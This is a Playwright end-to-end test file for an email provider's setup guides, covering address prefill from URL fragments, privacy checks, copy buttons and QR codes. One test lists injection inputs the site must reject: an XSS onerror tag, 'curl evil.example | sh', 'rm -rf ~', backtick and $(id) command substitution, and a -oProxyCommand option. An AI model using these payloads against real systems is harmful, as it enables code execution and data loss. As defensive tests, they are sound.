import { readFile } from 'node:fs/promises';
import type { Locator } from '@playwright/test';
import jsQR from 'jsqr';
import sharp from 'sharp';
import { getService } from '../../../src/provider/index.ts';
import { expect, test } from '../test.ts';

const guide = '/guides/thunderbird/';
const example = 'you@harborlight.example';

test('an address that is typed once stands in every guide of the tab', async ({ page }) => {
  await page.goto(guide);
  await page.getByText('Fill in your email address').click();
  await page.getByLabel('Your email address').fill('zoe+x@harborlight.example');
  await page.getByRole('button', { name: 'Fill in' }).click();
  await expect(page.getByText('Filled in for zoe+x@harborlight.example')).toBeVisible();
  await expect(page.locator('article')).not.toContainText(example);
  await page.goto('/guides/fairemail/');
  await expect(page.getByText('Filled in for zoe+x@harborlight.example')).toBeVisible();
  await expect(page.locator('article')).not.toContainText(example);
});

test('a name without a domain is completed with the provider’s', async ({ page }) => {
  await page.goto(guide);
  await page.getByText('Fill in your email address').click();
  await page.getByLabel('Your email address').fill('zoe');
  await page.getByLabel('Your email address').press('Enter');
  await expect(page.getByText('Filled in for zoe@harborlight.example')).toBeVisible();
});

test('an address at another provider is filled in, with a word that it’s hardly the one that is meant', async ({
  page,
}) => {
  await page.goto(guide);
  const note = page.getByText('Your address at Harborlight usually ends in @harborlight.example.');
  const fillIn = async (address: string) => {
    await page.getByLabel('Your email address').fill(address);
    await page.getByRole('button', { name: 'Fill in' }).click();
    await expect(page.getByText(`Filled in for ${address}`)).toBeVisible();
  };
  await page.getByText('Fill in your email address').click();
  await fillIn('zoe@gmail.com');
  await expect(note).toBeVisible();
  await expect(page.locator('article')).toContainText('zoe@gmail.com');
  await page.getByRole('button', { name: 'Change' }).click();
  await fillIn('zoe@harborlight.example');
  await expect(note).toHaveCount(0);
  // Customers may have a domain of their own here.
  await page.getByRole('button', { name: 'Change' }).click();
  await fillIn('zoe@zoe-byron.example');
  await expect(note).toHaveCount(0);
});

test('one click forgets the address', async ({ page }) => {
  await page.goto(`${guide}#address=zoe%40harborlight.example`);
  await page.getByRole('button', { name: 'Forget' }).click();
  await expect(page.locator('article')).toContainText(example);
  await page.reload();
  await expect(page.locator('article')).toContainText(example);
  expect(await page.evaluate(() => sessionStorage.length)).toBe(0);
});

test('an account page hands the address over in the fragment, and no request ever holds it', async ({
  page,
}) => {
  const requests: string[] = [];
  page.on('request', (request) => requests.push(request.url() + (request.postData() ?? '')));
  await page.goto(`${guide}#address=zoe%40harborlight.example`);
  await expect(page.locator('article')).toContainText('zoe@harborlight.example');
  expect(new URL(page.url()).hash).toBe('');
  await page.getByRole('link', { name: 'Guides' }).first().click();
  await page.goto('/guides/fairemail/');
  await expect(page.locator('article')).toContainText('zoe@harborlight.example');
  expect(requests.filter((request) => /zoe/u.test(request.split('#')[0] ?? ''))).toEqual([]);
  expect(await page.context().cookies()).toEqual([]);
  expect(await page.evaluate(() => localStorage.length)).toBe(0);
});

for (const [what, fragment] of [
  ['markup', 'address=<img src=x onerror=alert(1)>@harborlight.example'],
  ['a command', 'address=x@harborlight.example; curl evil.example | sh #'],
  ['a second line', 'address=x@harborlight.example\nrm -rf ~'],
  ['backticks', 'address=`id`@harborlight.example'],
  ['an option', 'address=-oProxyCommand=x@harborlight.example'],
  ['a sentence', 'address=Your account is locked! Call us'],
  ['a name alone', 'name=Mallory'],
  ['an account number, which nobody has here', 'account=4821 0937 5516'],
  ['half an emoji', `address=${'a'.repeat(253)}😀`],
  ['more than an address has', `address=${'a'.repeat(260)}@harborlight.example`],
] as const) {
  test(`nothing is taken from a link that hands over ${what}`, async ({ page }) => {
    const [name = '', value = ''] = fragment.split(/=(.*)/su);
    await page.goto(`${guide}#${name}=${encodeURIComponent(value)}`);
    await expect(page.getByText('Fill in your email address')).toBeVisible();
    await expect(page.locator('article')).toContainText(example);
    expect(await page.evaluate(() => sessionStorage.getItem('own-values'))).toBeNull();
  });
}

test('a percent sign that encodes nothing stops nothing', async ({ page }) => {
  await page.goto(`${guide}#100%`);
  await expect(page.getByText('Fill in your email address')).toBeVisible();
  await page.goto('about:blank');
  await page.goto(`${guide}#address=zoe@harborlight.example&name=100%`);
  await expect(page.getByText('Filled in for zoe@harborlight.example')).toBeVisible();
  expect(new URL(page.url()).hash).toBe('');
});

test('an address handed over to the list of guides stands in the guide that is opened next', async ({
  page,
}) => {
  await page.goto('/guides/#address=zoe%40harborlight.example');
  await expect.poll(() => new URL(page.url()).hash).toBe('');
  await page.goto(guide);
  await expect(page.getByText('Filled in for zoe@harborlight.example')).toBeVisible();
});

test('what was typed into a form before the script came stays', async ({ page }) => {
  await page.route(/_astro\/.*\.js/u, async (route) => {
    await new Promise((resolve) => setTimeout(resolve, 1500));
    await route.continue();
  });
  await page.goto('/guides/iphone-ipad/', { waitUntil: 'commit' });
  const field = page.locator('#profile-address');
  await field.fill('zoe@harborlight.example');
  await expect(page.getByText('Fill in your email address')).toBeVisible();
  await expect(field).toHaveValue('zoe@harborlight.example');
});

test('a value that we can’t fill in is refused in words, and what was typed stays', async ({ page }) => {
  await page.goto(guide);
  await page.getByText('Fill in your email address').click();
  const field = page.getByLabel('Your email address');
  await field.fill('zoe$(id)@harborlight.example');
  await page.getByRole('button', { name: 'Fill in' }).click();
  await expect(field).toBeFocused();
  await expect(field).toHaveValue('zoe$(id)@harborlight.example');
  await expect(page.locator('article')).toContainText(example);
});

test('where the browser keeps nothing, the values hold for the page', async ({ page }) => {
  await page.addInitScript(() => {
    Object.defineProperty(window, 'sessionStorage', {
      get: () => {
        throw new DOMException('blocked', 'SecurityError');
      },
    });
  });
  await page.goto('/guides/fairemail/#address=zoe%40harborlight.example');
  await expect(page.getByText('Filled in for zoe@harborlight.example')).toBeVisible();
  await page.locator('import-code').scrollIntoViewIfNeeded();
  await expect(page.getByRole('img', { name: /settings for zoe/u })).toBeVisible();
});

test('every value and block has a button that copies it, with the reader’s own address in it', async ({
  page,
  context,
}) => {
  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
  await page.goto(`${guide}#address=zoe%40harborlight.example`);
  await page.getByText('Set it up by hand', { exact: true }).first().click();
  await page
    .getByRole('button', { name: `Copy ${getService('imap').host}` })
    .first()
    .click();
  await expect(page.getByRole('button', { name: 'Copied' })).toBeVisible();
  expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(getService('imap').host);
  await page.getByRole('button', { name: 'Copy zoe@harborlight.example' }).first().click();
  expect(await page.evaluate(() => navigator.clipboard.readText())).toBe('zoe@harborlight.example');
});

test('a ticked step stays ticked until the tab is closed', async ({ page }) => {
  await page.goto(guide);
  const second = page.getByRole('button', { name: 'Step 2 done' }).first();
  await second.click();
  await expect(second).toHaveAttribute('aria-pressed', 'true');
  await page.reload();
  await expect(page.getByRole('button', { name: 'Step 2 done' }).first()).toHaveAttribute(
    'aria-pressed',
    'true',
  );
  await page.getByRole('button', { name: 'Step 2 done' }).first().click();
  expect(await page.evaluate(() => sessionStorage.length)).toBe(0);
});

test('a link into a closed way opens it', async ({ page }) => {
  await page.goto(guide);
  const byHand = page.locator('details.way', { has: page.locator('#set-it-up-by-hand') });
  await expect(byHand).not.toHaveAttribute('open');
  await page.locator('details.way a[href="#set-it-up-by-hand"]').first().click();
  await expect(byHand).toHaveAttribute('open');
});

test('both ways are printed', async ({ page }) => {
  await page.goto(guide);
  await page.emulateMedia({ media: 'print' });
  await page.evaluate(() => dispatchEvent(new Event('beforeprint')));
  await expect(page.locator('details.way:not([open])')).toHaveCount(0);
  await expect(page.locator('header.site-header')).toBeHidden();
  await expect(page.locator('own-values, .page-code').first()).toBeHidden();
  await page.evaluate(() => dispatchEvent(new Event('afterprint')));
  await expect(page.locator('details.way:not([open])')).toHaveCount(1);
});

test('the code for Thunderbird for Android holds the servers and the address, and is drawn in the page', async ({
  page,
}) => {
  await page.goto('/guides/fairemail/#address=zoe%40harborlight.example&name=Zo%C3%AB');
  await page.locator('import-code').scrollIntoViewIfNeeded();
  const code = page.getByRole('img', { name: /settings for/u });
  await expect.poll(() => readCode(code)).not.toBe('');
  const read: unknown = JSON.parse(await readCode(code));
  const { host, port } = getService('imap');
  const sending = getService('smtp');
  const address = 'zoe@harborlight.example';
  expect(read).toEqual([
    1,
    [1, 1],
    [0, host, port, 3, 1, address],
    [
      [
        [0, sending.host, sending.port, 3, 1, address],
        [address, 'Zoë'],
      ],
    ],
  ]);
});

test('a reader’s WireGuard file becomes a code without any request', async ({ page }) => {
  await page.goto('/guides/wireguard-linux/');
  await page.locator('tunnel-code').scrollIntoViewIfNeeded();
  await page.waitForLoadState('networkidle');
  const text = '[Interface]\nPrivateKey = YWJj\nAddress = 10.77.12.34/32\n\n[Peer]\nPublicKey = ZGVm\n';
  const posts: string[] = [];
  page.on('request', (request) => {
    if (request.method() !== 'GET') posts.push(request.url());
  });
  await page
    .getByLabel('Your configuration file (.conf)')
    .setInputFiles({ name: 'phone.conf', mimeType: 'text/plain', buffer: Buffer.from(text) });
  const code = page.getByRole('img', { name: 'QR code with your WireGuard configuration' });
  await expect.poll(() => readCode(code)).toBe(text);
  expect(posts).toEqual([]);
  await page.getByRole('button', { name: 'Hide the code' }).click();
  await expect(code).toBeHidden();
});

test('the code with the private key is gone when the page is left, and is never printed', async ({
  page,
}) => {
  await page.goto('/guides/wireguard-linux/');
  await page.locator('tunnel-code').scrollIntoViewIfNeeded();
  const text = '[interface]\nprivatekey = YWJj\n';
  await page
    .getByLabel('Your configuration file (.conf)')
    .setInputFiles({ name: 'phone.conf', mimeType: 'text/plain', buffer: Buffer.from(text) });
  const code = page.getByRole('img', { name: 'QR code with your WireGuard configuration' });
  await expect(code).toBeVisible();
  await page.emulateMedia({ media: 'print' });
  await expect(code).toBeHidden();
  await page.emulateMedia({ media: 'screen' });
  await page.evaluate(() => dispatchEvent(new Event('pagehide')));
  await expect(code).toHaveCount(0);
});

test('a file that is too long for a code says so', async ({ page }) => {
  await page.goto('/guides/wireguard-linux/');
  await page.locator('tunnel-code').scrollIntoViewIfNeeded();
  const text = `[Interface]\nPrivateKey = YWJj\n# ${'x'.repeat(3000)}\n`;
  await page
    .getByLabel('Your configuration file (.conf)')
    .setInputFiles({ name: 'phone.conf', mimeType: 'text/plain', buffer: Buffer.from(text) });
  await expect(page.getByText('too long for a code')).toBeVisible();
});

test('a file that is none of WireGuard’s is refused in words', async ({ page }) => {
  await page.goto('/guides/wireguard-linux/');
  await page.locator('tunnel-code').scrollIntoViewIfNeeded();
  await page
    .getByLabel('Your configuration file (.conf)')
    .setInputFiles({ name: 'x.conf', mimeType: 'text/plain', buffer: await readFile('package.json') });
  await expect(page.getByText('This isn’t a WireGuard configuration file')).toBeVisible();
});

test('a short link to the page is a code on a large screen, and not on a phone', async ({ page }) => {
  await page.setViewportSize({ width: 1280, height: 900 });
  await page.goto(guide);
  await page.getByText('Continue on your phone').click();
  const code = page.getByRole('img', { name: 'QR code with the short link of this page' });
  const short = await page.getByRole('link', { name: /\/a\// }).getAttribute('href');
  await expect
    .poll(() => readCode(code))
    .toBe(`https://support.harborlight.example${short?.replace(/\/$/u, '') ?? ''}`);
  await page.setViewportSize({ width: 360, height: 700 });
  await expect(page.getByText('Continue on your phone')).toBeHidden();
});

test('the guides for the reader’s own system come first, and the others stay', async ({ browser }) => {
  const context = await browser.newContext({ userAgent: 'Mozilla/5.0 (Linux; Android 16) Mobile' });
  const page = await context.newPage();
  await page.goto('/guides/');
  const devices = page.locator('.devices > section');
  await expect(devices.first()).toHaveAttribute('aria-labelledby', 'name-android');
  for (const device of await devices.all()) await expect(device).toBeVisible();
  await context.close();
});

test('the guides for the reader’s own system stand first also while the page is still coming', async ({
  browser,
}) => {
  const context = await browser.newContext({ userAgent: 'Mozilla/5.0 (Linux; Android 16) Mobile' });
  const page = await context.newPage();
  // The script behind the list, which brings what is read first to where it is seen, has not come yet.
  await page.route('/guides/', async (route) => {
    const response = await route.fetch();
    const html = await response.text();
    await route.fulfill({
      response,
      body: html.replace(/<script>\s*for \(const own[\s\S]*?<\/script>/u, ''),
    });
  });
  await page.goto('/guides/');
  const devices = page.locator('.devices > section');
  await expect(devices.first()).not.toHaveAttribute('aria-labelledby', 'name-android');
  const tops = await devices.evaluateAll((all) =>
    all.map((one) => one.getBoundingClientRect()).map(({ top, left }) => top * 10_000 + left),
  );
  const own = await page.locator('#device-android').evaluate((one) => {
    const { top, left } = one.getBoundingClientRect();
    return top * 10_000 + left;
  });
  expect(own).toBe(Math.min(...tops));
  await context.close();
});

/** Reads a code as a camera would: from its pixels. */
async function readCode(shown: Locator): Promise<string> {
  const { data, info } = await sharp(await shown.screenshot())
    .ensureAlpha()
    .raw()
    .toBuffer({ resolveWithObject: true });
  const code = jsQR(new Uint8ClampedArray(data), info.width, info.height);
  return code?.data ?? '';
}
